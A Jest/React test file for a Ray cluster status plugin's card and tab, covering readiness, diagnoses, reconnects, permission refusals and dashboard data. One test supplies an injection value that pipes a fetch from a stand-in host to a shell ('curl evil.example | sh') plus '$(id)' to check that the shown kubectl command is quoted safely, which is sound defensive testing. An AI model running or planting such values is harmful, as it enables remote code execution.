import type { RayClusterSummary } from '@syntho-ray/plugin-syntho-ray-common';
import { fireEvent, screen, waitFor } from '@testing-library/react';
import { RayClusterCard } from './RayClusterCard';
import { RayClusterContent } from './RayClusterContent';
import { pluginMessagesAsKeys } from '../__testUtils__/translation';
import {
  mockSynthoRayApi,
  ready,
  render,
  streamingFetch,
} from '../__testUtils__/statusStream';

const imagePull: RayClusterSummary = {
  ...ready,
  verdict: 'Failed',
  reason: 'Images cannot be pulled',
  head: { ...ready.head, ready: 0, failed: 1 },
  groups: [{ ...ready.groups[0], ready: 0, failed: 1 }],
  pods: [
    {
      ...ready.pods[0],
      phase: 'Pending',
      status: 'ImagePullBackOff',
      ready: false,
    },
  ],
  diagnoses: [
    {
      id: 'image-pull',
      severity: 'error',
      title: 'Images cannot be pulled',
      message: '2 pods of head and workergroup cannot pull their image.',
      evidence: [
        {
          kind: 'Pod',
          name: 'ray-cluster-head-x7k2p',
          reason: 'ImagePullBackOff',
        },
      ],
      fix: 'Check that the pull secret "syntho-cr-secret" exists in namespace syntho.',
    },
  ],
  warningEvents: [
    {
      kind: 'Pod',
      name: 'ray-cluster-head-x7k2p',
      reason: 'Failed',
      message: 'Error: ImagePullBackOff',
      count: 12,
    },
  ],
};

const notDeployed: RayClusterSummary = {
  ...ready,
  verdict: 'NotFound',
  reason: 'No RayCluster ray-cluster in syntho on aks yet.',
  groups: [],
  pods: [],
  diagnoses: [
    {
      id: 'raycluster-missing',
      severity: 'warning',
      title: 'Not deployed yet',
      message: 'There is no RayCluster ray-cluster in syntho.',
      evidence: [{ kind: 'RayCluster', name: 'ray-cluster' }],
      fix: "Merge the cluster's pull request in the GitOps repository.",
    },
  ],
};

/** The backend's answer to a user without `kubernetes.resources.read`. */
const refusal = {
  ok: false,
  status: 403,
  statusText: 'Forbidden',
  headers: new Map([['content-type', 'application/json']]),
  text: async () =>
    JSON.stringify({
      error: {
        name: 'NotAllowedError',
        message: 'You may not read Kubernetes resources',
      },
      response: { statusCode: 403 },
    }),
};

describe('RayClusterCard', () => {
  it('shows progress, then the verdict, counts and Ray address, then a pushed failure with its fix', async () => {
    const stream = streamingFetch();
    render(<RayClusterCard />, stream.fetch);

    expect(await screen.findByRole('progressbar')).toBeInTheDocument();
    expect(stream.fetch).toHaveBeenCalledWith(
      'http://backstage/api/syntho-ray/clusters/stream?entityRef=resource%3Adefault%2Fray-cluster-syntho-aks',
      expect.anything(),
    );

    stream.send(ready);
    expect(await screen.findByTestId('ray-verdict')).toHaveTextContent('Ready');
    expect(screen.getByTestId('ray-head')).toHaveTextContent('1/1 ready');
    expect(screen.getByText(/workergroup:/).parentElement).toHaveTextContent(
      'workergroup: 1/1 ready',
    );
    expect(screen.getByTestId('ray-address')).toHaveTextContent(
      'ray-cluster-head-svc.syntho.svc.cluster.local',
    );
    expect(
      screen.getByText(
        'kubectl -n syntho port-forward svc/ray-cluster-head-svc 8265:8265',
      ),
    ).toBeInTheDocument();

    stream.send(imagePull);
    await waitFor(() =>
      expect(screen.getByTestId('ray-verdict')).toHaveTextContent('Failed'),
    );
    expect(screen.getByTestId('diagnosis-image-pull')).toHaveTextContent(
      /Fix: Check that the pull secret "syntho-cr-secret" exists/,
    );
  });

  it('counts in the right number: one node, two nodes, a failing pod', async () => {
    const stream = mockSynthoRayApi();
    render(<RayClusterCard />, stream.api);
    const dashboard = (alive: number) => ({
      reachable: true,
      rayVersion: '2.9.3',
      nodes: { alive, dead: 0, omitted: 0, list: [] },
    });

    stream.send({ ...imagePull, dashboard: dashboard(1) });
    expect(
      await screen.findByText(/Ray 2\.9\.3, 1 node alive\./),
    ).toBeInTheDocument();
    expect(screen.getByTestId('ray-head')).toHaveTextContent(
      'Head: 0/1 ready (1 failing)',
    );
    stream.send({ ...imagePull, dashboard: dashboard(2) });
    expect(
      await screen.findByText(/Ray 2\.9\.3, 2 nodes alive\./),
    ).toBeInTheDocument();
  });

  it("takes its texts from the plugin's translation ref", async () => {
    const stream = mockSynthoRayApi();
    render(<RayClusterCard />, stream.api, pluginMessagesAsKeys());
    stream.send(imagePull);

    expect(await screen.findByText('«card.head»')).toBeInTheDocument();
    for (const key of ['card.title', 'card.rayAddress', 'card.rayDashboard'])
      expect(screen.getByText(`«${key}»`)).toBeInTheDocument();
    expect(screen.queryByText(/Ray address|Ray dashboard/)).toBeNull();
  });

  it('says when the cluster is simulated', async () => {
    const stream = mockSynthoRayApi();
    render(<RayClusterCard />, stream.api);
    stream.send({ ...ready, simulated: true });
    expect(await screen.findByText('Simulated cluster')).toBeInTheDocument();
  });

  it("offers the dashboard on the head Service's own dashboard port", async () => {
    const stream = mockSynthoRayApi();
    render(<RayClusterCard />, stream.api);
    stream.send({
      ...ready,
      service: {
        ...ready.service,
        ports: [
          { name: 'client', port: 10001 },
          { name: 'dashboard', port: 8080 },
        ],
      },
    });
    expect(
      await screen.findByText(
        'kubectl -n syntho port-forward svc/ray-cluster-head-svc 8080:8080',
      ),
    ).toBeInTheDocument();
    expect(
      screen.getByRole('link', { name: 'http://localhost:8080' }),
    ).toHaveAttribute('href', 'http://localhost:8080');
  });

  it('shows the not-yet-deployed state with what to do', async () => {
    const stream = mockSynthoRayApi();
    render(<RayClusterCard />, stream.api);
    stream.send(notDeployed);
    expect(await screen.findByText('Not deployed yet')).toBeInTheDocument();
    expect(
      screen.getByText(/Merge the cluster's pull request/),
    ).toBeInTheDocument();
  });

  it('links the diagnoses it does not show to the Ray tab', async () => {
    const stream = mockSynthoRayApi();
    render(<RayClusterCard />, stream.api);
    stream.send({
      ...imagePull,
      diagnoses: [...imagePull.diagnoses, ...notDeployed.diagnoses],
    });
    const more = await screen.findByRole('link', {
      name: '1 more on the Ray tab.',
    });
    expect(more).toHaveAttribute(
      'href',
      '/catalog/default/resource/ray-cluster-syntho-aks/ray',
    );
    stream.send(imagePull);
    await waitFor(() =>
      expect(screen.queryByText(/more on the Ray tab/)).not.toBeInTheDocument(),
    );
  });

  it('reconnects when the backend ends the stream, and drops the summary when access was revoked', async () => {
    const stream = streamingFetch();
    let calls = 0;
    const fetch = jest.fn(async (url: string) =>
      ++calls === 1 ? stream.fetch(url) : refusal,
    );
    render(<RayClusterCard />, fetch);
    stream.send(ready);
    expect(await screen.findByTestId('ray-verdict')).toHaveTextContent('Ready');

    stream.end();

    expect(await screen.findByText(/could not be read/)).toBeInTheDocument();
    expect(
      screen.getByText(/You may not read Kubernetes resources/),
    ).toBeInTheDocument();
    expect(screen.queryByTestId('ray-verdict')).not.toBeInTheDocument();
    expect(fetch).toHaveBeenCalledTimes(2);
  });

  it('keeps the summary, with no error, while the backend it streamed from shuts down and another answers', async () => {
    const first = streamingFetch();
    const second = streamingFetch();
    let calls = 0;
    const fetch = jest.fn(async (url: string) => {
      calls += 1;
      if (calls === 1) return first.fetch(url);
      // Nobody listens for a moment: the restarted backend is not up yet.
      if (calls === 2) throw new TypeError('Failed to fetch');
      return second.fetch(url);
    });
    render(<RayClusterCard />, fetch);
    first.send(ready);
    expect(await screen.findByTestId('ray-verdict')).toHaveTextContent('Ready');

    first.shutdown(1000);
    await waitFor(() => expect(fetch).toHaveBeenCalledTimes(3), {
      timeout: 5000,
    });

    expect(screen.getByTestId('ray-verdict')).toHaveTextContent('Ready');
    expect(screen.queryByRole('progressbar')).not.toBeInTheDocument();
    expect(screen.queryByText(/interrupted/)).not.toBeInTheDocument();
    second.send(imagePull);
    await waitFor(() =>
      expect(screen.getByTestId('ray-verdict')).toHaveTextContent('Failed'),
    );
  });

  it("shows the backend's refusal as this cluster's error", async () => {
    const fetch = jest.fn(async () => refusal);
    render(<RayClusterCard />, fetch as any);
    expect(await screen.findByText(/could not be read/)).toBeInTheDocument();
    expect(fetch).toHaveBeenCalledTimes(1);
  });
});

describe('RayClusterCard and RayClusterContent, with hostile or refused entities', () => {
  it('quotes the copyable kubectl command for a POSIX shell', async () => {
    const stream = mockSynthoRayApi();
    render(<RayClusterCard />, stream.api);
    stream.send({
      ...ready,
      namespace: "syntho'; curl evil.example | sh #",
      service: { ...ready.service, name: '$(id)' },
    });
    expect(
      await screen.findByText(
        "kubectl -n 'syntho'\\''; curl evil.example | sh #' port-forward 'svc/$(id)' 8265:8265",
      ),
    ).toBeInTheDocument();
  });

  /** The backend's answer for an entity whose annotations name a namespace the policy does not allow. */
  const notAllowed = {
    ok: false,
    status: 403,
    statusText: 'Forbidden',
    headers: new Map([['content-type', 'application/json']]),
    text: async () =>
      JSON.stringify({
        error: { name: 'NotAllowedError', message: 'not watched' },
        response: { statusCode: 403 },
        diagnoses: [
          {
            id: 'target-not-allowed',
            severity: 'error',
            title:
              "The policy does not allow the entity's syntho.ai/ray-namespace",
            message:
              'The annotation syntho.ai/ray-namespace ("kube-system") is not one of the namespaces the platform policy allows on aks; nothing is read from any cluster for this entity.',
            evidence: [
              {
                kind: 'Annotation',
                name: 'syntho.ai/ray-namespace',
                reason: 'NotAllowed',
              },
            ],
            fix: 'Set syntho.ai/ray-namespace to one of "syntho".',
          },
        ],
      }),
  };

  it.each([
    ['card', <RayClusterCard />],
    ['tab', <RayClusterContent />],
  ])(
    'shows the %s the diagnosis of an entity whose cluster is not watched, and does not retry',
    async (_name, element) => {
      const fetch = jest.fn(async () => notAllowed);
      render(element, fetch as any);

      expect(
        await screen.findByTestId('diagnosis-target-not-allowed'),
      ).toHaveTextContent(
        'Fix: Set syntho.ai/ray-namespace to one of "syntho".',
      );
      expect(
        screen.getByText(
          "The policy does not allow the entity's syntho.ai/ray-namespace",
        ),
      ).toBeInTheDocument();
      expect(screen.queryByText(/could not be read/)).toBeNull();
      expect(fetch).toHaveBeenCalledTimes(1);
    },
  );

  it('tries again after a 429 (too many streams), when its Retry-After says', async () => {
    const stream = streamingFetch();
    const tooMany = {
      ok: false,
      status: 429,
      statusText: 'Too Many Requests',
      headers: new Map([
        ['content-type', 'application/json'],
        ['retry-after', '1'],
      ]),
      text: async () =>
        JSON.stringify({
          error: {
            name: 'TooManyRequestsError',
            message: 'You already have 20 status streams open',
          },
          response: { statusCode: 429 },
        }),
    };
    let calls = 0;
    const fetch = jest.fn(async (url: string) =>
      ++calls === 1 ? tooMany : stream.fetch(url),
    );
    render(<RayClusterCard />, fetch as any);

    expect(
      await screen.findAllByText(/You already have 20 status streams open/),
    ).not.toHaveLength(0);
    await waitFor(() => expect(fetch).toHaveBeenCalledTimes(2), {
      timeout: 3000,
    });
    stream.send(ready);
    expect(await screen.findByTestId('ray-verdict')).toHaveTextContent('Ready');
  });
});

describe('RayClusterContent', () => {
  it('lists pods per group, the Service ports, diagnoses with fixes and warning events', async () => {
    const stream = mockSynthoRayApi();
    render(<RayClusterContent />, stream.api);
    stream.send(imagePull);

    expect(await screen.findByText('head: 0/1 ready')).toBeInTheDocument();
    expect(
      screen.getByText('workergroup: 0/1 ready, min 1, max 1'),
    ).toBeInTheDocument();
    expect(screen.getByText('ray-cluster-head-x7k2p')).toBeInTheDocument();
    expect(screen.getAllByText('ImagePullBackOff').length).toBeGreaterThan(0);
    expect(screen.getAllByRole('columnheader', { name: 'Phase' })).toHaveLength(
      2,
    );
    expect(screen.getAllByText('Pending').length).toBeGreaterThan(0);
    expect(screen.getByText('dashboard: 8265')).toBeInTheDocument();
    expect(screen.getByTestId('diagnosis-image-pull')).toHaveTextContent(
      'Fix:',
    );
    expect(screen.getByText('Error: ImagePullBackOff')).toBeInTheDocument();
    expect(
      screen.getByText(/not reachable through the Kubernetes service proxy/),
    ).toBeInTheDocument();
  });

  it('keeps the sorting the user chose when the next summary arrives', async () => {
    const stream = mockSynthoRayApi();
    render(<RayClusterContent />, stream.api);
    const worker = (name: string, restarts: number) => ({
      ...ready.pods[0],
      name,
      group: 'workergroup',
      restarts,
    });
    const withWorkers = (observedAt: string) => ({
      ...ready,
      observedAt,
      pods: [worker('worker-a', 0), worker('worker-b', 5)],
    });
    const firstWorkerRow = () =>
      screen
        .getByText('workergroup: 1/1 ready, min 1, max 1')
        .closest('.MuiPaper-root')!
        .querySelector('tbody tr')!;

    stream.send(withWorkers('2026-11-20T10:20:00Z'));
    const restarts = await screen.findAllByRole('button', {
      name: 'Restarts',
    });
    // The head's table comes first; the workers' second. Twice: descending.
    fireEvent.click(restarts[1]);
    fireEvent.click(restarts[1]);
    expect(firstWorkerRow()).toHaveTextContent('worker-b');

    stream.send(withWorkers('2026-11-20T10:20:05Z'));
    await waitFor(() =>
      expect(screen.getByTestId('ray-verdict')).toBeInTheDocument(),
    );
    expect(firstWorkerRow()).toHaveTextContent('worker-b');
  });

  it("takes its texts from the plugin's translation ref", async () => {
    const stream = mockSynthoRayApi();
    render(<RayClusterContent />, stream.api, pluginMessagesAsKeys());
    stream.send(imagePull);

    expect(await screen.findByText('«tab.health»')).toBeInTheDocument();
    for (const key of [
      'tab.headService',
      'tab.events',
      'tab.dashboard.title',
      'tab.dashboard.unreachable',
    ])
      expect(screen.getByText(`«${key}»`)).toBeInTheDocument();
    expect(
      screen.getAllByRole('columnheader', { name: '«tab.columns.pod»' }),
    ).toHaveLength(2);
    expect(
      screen.queryByText(/Recent warning events|Head Service|not reachable/),
    ).toBeNull();
  });

  it("shows the Ray dashboard's nodes with why a dead one died, usage with memory in GiB, and jobs", async () => {
    const stream = mockSynthoRayApi();
    render(<RayClusterContent />, stream.api);
    const diedAt = new Date(Date.now() - 3 * 60_000).toISOString();
    stream.send({
      ...ready,
      dashboard: {
        reachable: true,
        rayVersion: '2.9.3',
        nodes: {
          alive: 1,
          dead: 1,
          omitted: 0,
          list: [
            {
              hostname: 'ray-cluster-workergroup-worker-old',
              head: false,
              state: 'DEAD',
              diedAt,
              deathReason:
                'health check failed due to missing too many heartbeats',
            },
            {
              hostname: 'ray-cluster-head-x7k2p',
              ip: '10.244.1.12',
              head: true,
              state: 'ALIVE',
              cpuPercent: 13,
              memoryPercent: 25,
            },
          ],
        },
        usage: [
          { resource: 'CPU', used: 4, total: 32 },
          { resource: 'memory', used: 8589934592, total: 137438953472 },
          { resource: 'object_store_memory', used: 0, total: 27487790694 },
        ],
        jobs: [{ id: 'raysubmit_c8YaR2', status: 'RUNNING' }],
      },
    });

    expect(
      await screen.findByText('Ray nodes: 1 alive, 1 dead'),
    ).toBeInTheDocument();
    const dead = screen
      .getByText('ray-cluster-workergroup-worker-old')
      .closest('tr');
    expect(dead).toHaveTextContent('DEAD');
    expect(dead).toHaveTextContent(
      'health check failed due to missing too many heartbeats (3m ago)',
    );
    const head = screen
      .getByText('ray-cluster-head-x7k2p (head)')
      .closest('tr');
    expect(head).toHaveTextContent('ALIVE');
    expect(head).toHaveTextContent('13 %');
    expect(screen.getByText('CPU: 4 of 32 in use')).toBeInTheDocument();
    expect(
      screen.getByText('Memory: 8 GiB of 128 GiB in use'),
    ).toBeInTheDocument();
    expect(
      screen.getByText('Object store memory: 0 GiB of 25.6 GiB in use'),
    ).toBeInTheDocument();
    expect(screen.getByText('raysubmit_c8YaR2')).toBeInTheDocument();
  });

  it('says when a current Ray reports no usage, and when Ray 2.9 recorded no reason for a dead node', async () => {
    const stream = mockSynthoRayApi();
    render(<RayClusterContent />, stream.api);
    stream.send({
      ...ready,
      dashboard: {
        reachable: true,
        rayVersion: '2.52.0',
        usageNotReported: true,
        nodes: {
          alive: 0,
          dead: 1,
          omitted: 0,
          list: [
            {
              hostname: 'ray-cluster-workergroup-worker-old',
              ip: '10.244.2.5',
              head: false,
              state: 'DEAD',
            },
          ],
        },
      },
    });

    expect(
      await screen.findByText(/Ray reports no resource usage here/),
    ).toBeInTheDocument();
    const dead = screen
      .getByText('ray-cluster-workergroup-worker-old')
      .closest('tr');
    expect(dead).toHaveTextContent('Ray recorded no reason');
    expect(dead).not.toHaveTextContent('undefined');
  });
});
